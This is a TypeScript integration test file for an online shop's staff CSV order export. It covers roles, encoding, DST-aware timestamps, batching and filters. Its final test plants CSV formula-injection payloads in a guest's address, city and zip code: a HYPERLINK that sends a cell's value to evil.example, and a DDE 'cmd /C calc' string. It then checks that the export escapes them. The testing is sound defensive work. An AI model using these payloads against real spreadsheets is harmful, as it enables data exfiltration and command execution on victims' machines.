// GET /api/Orders/export.csv through the real app on a real SQLite file: BOM, header, one row per order line,
// plain decimals, shop-day range and state filters, batches of orders by key (several of them, ids out of date
// order: decision 241), roles and bad input, and a
// shopper's formula-like address written as text (decision 200).
import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { createCustomer, createStaff } from '#server/testing/auth';
import { createTestApp, type TestApp } from '#server/testing/app';
import { createCountry, createProduct, insertOrder as writeOrder } from '#server/testing/factories';
import { EXPORT_BATCH } from './orders-export.service';
import * as services from './orders.service';
import { inRequestContext } from '#server/testing/request-context';

/** The staff writes run as a door runs them: in a request context (decision 228). */
const svc = inRequestContext(services);

let t: TestApp;
let staff: string;
let customer: string;
let countryId: number;
let productId: number;
let variantId: number;

async function insertOrder(
  date: string,
  lines: Array<{ name: string; qty: number; unitCents: number }>,
  extra: { shippingCents?: number; discountCents?: number; promo?: string } = {},
) {
  return writeOrder(t.db, {
    date,
    firstName: 'Ëndrit',
    lastName: 'Çeku',
    email: 'endrit@example.com',
    phoneNumber: '+38344123123',
    address: 'Rruga "Nëna Terezë" 12, hyrja 2',
    city: 'Prishtinë',
    zipCode: '10000',
    countryId,
    countryName: 'Kosova',
    discountCents: extra.discountCents ?? 0,
    shippingCents: extra.shippingCents ?? 250,
    promoCode: extra.promo ?? null,
    lines: lines.map((l) => ({ productId, variantId, color: 'E zezë', size: 'M', ...l })),
  });
}

async function exportCsv(query = '', token = staff) {
  const r = await t.request(`/api/Orders/export.csv${query}`, { token });
  const bytes = new Uint8Array(await r.arrayBuffer());
  return { r, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
}

const rowsOf = (text: string) => parse(text, { bom: true, columns: true }) as Array<Record<string, string>>;

beforeAll(async () => {
  t = await createTestApp();
  staff = (await createStaff(t)).token;
  customer = (await createCustomer(t)).token;
  countryId = await createCountry(t.db, { name: 'Kosova', shippingCents: 250 });
  const p = await createProduct(t.db, { variants: [{ stock: 100 }] });
  productId = p.productId;
  variantId = p.variantIds[0]!;
});

describe('GET /api/Orders/export.csv', () => {
  it('guest 401, customer 403; bad dates, reversed range and unknown state 400', async () => {
    expect((await t.request('/api/Orders/export.csv')).status).toBe(401);
    expect((await t.request('/api/Orders/export.csv', { token: customer })).status).toBe(403);
    for (const q of ['?from=2026-02-30', '?to=22.11.2026', '?from=2026-05-02&to=2026-05-01', '?status=lost']) {
      const r = await t.request(`/api/Orders/export.csv${q}`, { token: staff });
      expect(r.status, q).toBe(400);
      expect((await r.json()) as object, q).toHaveProperty('Message');
    }
  });

  it('UTF-8 with BOM, a header row, one row per order line, plain decimals, quotes and commas kept', async () => {
    const id = await insertOrder(
      '2026-05-10T08:00:00.000Z',
      [
        { name: 'Fustan mëndafshi, i gjatë', qty: 2, unitCents: 2495 },
        { name: 'Këmishë', qty: 1, unitCents: 500 },
      ],
      { discountCents: 549, promo: 'VERË10' },
    );
    const { r, bytes, text } = await exportCsv('?from=2026-05-10&to=2026-05-10');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(r.headers.get('content-disposition')).toBe('attachment; filename="porosite-2026-05-10_2026-05-10.csv"');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const header = text.slice(1).split('\r\n')[0]!;
    expect(header.startsWith('orderNumber,orderId,orderDate,status,statusLabel')).toBe(true);
    const rows = rowsOf(text);
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      orderNumber: `#${String(id).padStart(6, '0')}`,
      orderId: String(id),
      orderDate: '2026-05-10T10:00:00+02:00',
      shipDate: '',
      status: 'pending',
      statusLabel: 'Në pritje',
      firstName: 'Ëndrit',
      lastName: 'Çeku',
      address: 'Rruga "Nëna Terezë" 12, hyrja 2',
      city: 'Prishtinë',
      productName: 'Fustan mëndafshi, i gjatë',
      quantity: '2',
      unitPrice: '24.95',
      lineTotal: '49.90',
      orderSubtotal: '54.90',
      orderDiscount: '5.49',
      promoCode: 'VERË10',
      orderShipping: '2.50',
      orderTotal: '51.91',
    });
    expect(rows[1]).toMatchObject({ productName: 'Këmishë', quantity: '1', unitPrice: '5.00', lineTotal: '5.00' });
  });

  it('filters by shop-time days (both ends included) and by state, cancelled ones as Anuluar', async () => {
    // 22:30 UTC on 31 May is 00:30 on 1 June in shop time (Europe/Belgrade, summer).
    const june1 = await insertOrder('2026-05-31T22:30:00.000Z', [{ name: 'A', qty: 1, unitCents: 100 }]);
    const may31 = await insertOrder('2026-05-31T21:30:00.000Z', [{ name: 'B', qty: 1, unitCents: 100 }]);
    const june2 = await insertOrder('2026-06-02T21:59:00.000Z', [{ name: 'C', qty: 1, unitCents: 100 }]);
    const june3 = await insertOrder('2026-06-02T22:00:00.000Z', [{ name: 'D', qty: 1, unitCents: 100 }]);
    const ids = (text: string) => rowsOf(text).map((r) => Number(r.orderId));
    expect(ids((await exportCsv('?from=2026-06-01&to=2026-06-02')).text)).toEqual([june1, june2]);
    expect(ids((await exportCsv('?to=2026-05-31')).text)).toContain(may31);
    expect(ids((await exportCsv('?from=2026-06-03')).text)).toEqual([june3]);

    await svc.cancelOrder(t, june2, null);
    const cancelled = rowsOf((await exportCsv('?from=2026-06-01&to=2026-06-02&status=cancelled')).text);
    expect(cancelled.map((r) => [Number(r.orderId), r.status, r.statusLabel])).toEqual([
      [june2, 'cancelled', 'Anuluar'],
    ]);
    expect(cancelled[0]!.closedAt).not.toBe('');
    expect(ids((await exportCsv('?from=2026-06-01&to=2026-06-02&status=pending')).text)).toEqual([june1]);
  });

  it('writes every time as shop time with its offset, across the spring and autumn DST changes (decision 221)', async () => {
    // 29.03.2026: 02:00 becomes 03:00 in the shop; 25.10.2026: 03:00 becomes 02:00 (that hour happens twice).
    const winter = await insertOrder('2026-03-29T00:30:00.000Z', [{ name: 'Para', qty: 1, unitCents: 100 }]);
    const summer = await insertOrder('2026-03-29T01:30:00.000Z', [{ name: 'Pas', qty: 1, unitCents: 100 }]);
    const first = await insertOrder('2026-10-25T00:30:00.000Z', [{ name: 'Herë e parë', qty: 1, unitCents: 100 }]);
    const again = await insertOrder('2026-10-25T01:30:00.000Z', [{ name: 'Herë e dytë', qty: 1, unitCents: 100 }]);
    await svc.toggleOrderStatus(t, summer, null);
    await svc.cancelOrder(t, winter, null);
    const spring = rowsOf((await exportCsv('?from=2026-03-29&to=2026-03-29')).text);
    const byId = new Map(spring.map((r) => [Number(r.orderId), r]));
    expect(byId.get(winter)!.orderDate).toBe('2026-03-29T01:30:00+01:00');
    expect(byId.get(summer)!.orderDate).toBe('2026-03-29T03:30:00+02:00');
    // Ship and close times (now) are shop time too: the same wall-clock form with the offset of today.
    const shopTime = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}[+-]\d{2}:\d{2}$/;
    expect(byId.get(summer)!.shipDate).toMatch(shopTime);
    expect(byId.get(winter)!.closedAt).toMatch(shopTime);
    expect(byId.get(summer)!.closedAt).toBe('');
    const autumn = rowsOf((await exportCsv('?from=2026-10-25&to=2026-10-25')).text);
    expect(autumn.map((r) => [Number(r.orderId), r.orderDate])).toEqual([
      [first, '2026-10-25T02:30:00+02:00'],
      [again, '2026-10-25T02:30:00+01:00'],
    ]);
  });

  it('reads past several batches in order without repeating or losing a line; an empty range is just the header', async () => {
    const fresh = await createTestApp();
    const token = (await createStaff(fresh)).token;
    const cid = await createCountry(fresh.db);
    const count = EXPORT_BATCH * 2 + 7;
    const perOrder = 3;
    const orders = Math.ceil(count / perOrder);
    await fresh.db.transaction().execute(async (trx) => {
      for (let i = 0; i < orders; i++) {
        await writeOrder(trx, {
          date: `2026-07-01T10:${String(i % 60).padStart(2, '0')}:00.000Z`,
          status: 'delivered',
          countryId: cid,
          lines: Array.from({ length: perOrder }, (_, j) => ({ name: `P${i}-${j}`, qty: 1, unitCents: 100 })),
        });
      }
    });
    const r = await fresh.request('/api/Orders/export.csv', { token });
    const rows = rowsOf(await r.text());
    expect(rows).toHaveLength(orders * perOrder);
    expect(new Set(rows.map((x) => x.productName)).size).toBe(orders * perOrder);
    expect(rows[0]!.productName).toBe('P0-0');
    expect(rows.at(-1)!.productName).toBe(`P${orders - 1}-${perOrder - 1}`);

    const empty = await fresh.request('/api/Orders/export.csv?from=2030-01-01', { token });
    const text = await empty.text();
    expect(rowsOf(text)).toEqual([]);
    expect(
      text
        .replace(/^\uFEFF/, '')
        .trim()
        .split('\r\n'),
    ).toHaveLength(1);
  });

  it('a period and a state over several batches of orders, ids out of date order: every line once, in id order (decision 241)', async () => {
    const fresh = await createTestApp();
    const token = (await createStaff(fresh)).token;
    // Written in bulk (a few statements, not thousands). Days scrambled against the ids; every 7th order in June
    // (outside the period), every 11th without lines, every 5th delivered (not asked for).
    const count = EXPORT_BATCH * 3 + 31;
    const orders = Array.from({ length: count }, (_, i) => ({
      order_date: `2026-${i % 7 === 0 ? '06' : '07'}-${String(1 + ((i * 17) % 28)).padStart(2, '0')}T09:00:00.000Z`,
      status: i % 5 === 0 ? ('delivered' as const) : ('pending' as const),
      first_name: `N${i}`,
      last_name: 'Gashi',
      email: `n${i}@example.com`,
      phone_number: '+38344111222',
      address: 'Rruga B 1',
      city: 'Prishtinë',
      zip_code: '10000',
      country_name: 'Kosova',
      subtotal_cents: 100,
      shipping_cost_cents: 0,
      total_cents: 100,
    }));
    const made: Array<{ order_id: number; first_name: string }> = [];
    for (let k = 0; k < count; k += 200)
      made.push(
        ...(await fresh.db
          .insertInto('orders')
          .values(orders.slice(k, k + 200))
          .returning(['order_id', 'first_name'])
          .execute()),
      );
    const lines = made.flatMap(({ order_id, first_name }) => {
      const i = Number(first_name.slice(1));
      return i % 11 === 0
        ? []
        : Array.from({ length: 1 + (i % 3) }, (_, j) => ({
            order_id,
            product_name: `P${i}-${j}`,
            size: 'M',
            color: 'E zezë',
            quantity: 1,
            unit_price_cents: 100,
            line_total_cents: 100,
          }));
    });
    for (let k = 0; k < lines.length; k += 300)
      await fresh.db
        .insertInto('order_details')
        .values(lines.slice(k, k + 300))
        .execute();
    const expected = (
      await fresh.db
        .selectFrom('order_details as d')
        .innerJoin('orders as o', 'o.order_id', 'd.order_id')
        .select('d.product_name')
        .where('o.order_date', '>=', '2026-06-30T22:00:00.000Z')
        .where('o.order_date', '<', '2026-07-31T22:00:00.000Z')
        .where('o.status', '=', 'pending')
        .where('o.closed_as', 'is', null)
        .orderBy('d.order_id')
        .orderBy('d.order_details_id')
        .execute()
    ).map((r) => r.product_name);
    expect(expected.length).toBeGreaterThan(EXPORT_BATCH * 2);
    const r = await fresh.request('/api/Orders/export.csv?from=2026-07-01&to=2026-07-31&status=pending', { token });
    const names = rowsOf(await r.text()).map((x) => x.productName);
    expect(names).toEqual(expected);
    expect(new Set(names).size).toBe(names.length);
  }, 60_000);

  it("an anonymous shopper's formula-like address and city reach the spreadsheet as text: one quote in front", async () => {
    const address = '=HYPERLINK("http://evil.example/?x="&A2,"Kliko")';
    const city = "-2+3+cmd|' /C calc'!A0";
    const placed = await t.request('/api/orders/checkout', {
      method: 'POST',
      json: {
        customerDetails: {
          email: 'anon@example.com',
          firstName: 'Arta',
          lastName: 'Hoxha',
          phoneNumber: '+38344111222',
          countryID: countryId,
          city,
          address,
          zipCode: '@10000',
          guestId: 'guest_csvformula1',
        },
        cartItems: [{ productVariantId: variantId, quantity: 1 }],
        promoCode: null,
      },
    });
    expect(placed.status).toBe(201);
    const { orderId } = (await placed.json()) as { orderId: number };
    const { text } = await exportCsv();
    const row = rowsOf(text).find((r) => Number(r.orderId) === orderId)!;
    expect(row).toMatchObject({
      address: `'${address}`,
      city: `'${city}`,
      zipCode: "'@10000",
      firstName: 'Arta',
      email: 'anon@example.com',
    });
    // In the raw bytes no cell starts with the formula: the quoted cell begins with the quote mark.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2,""Kliko"")"`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
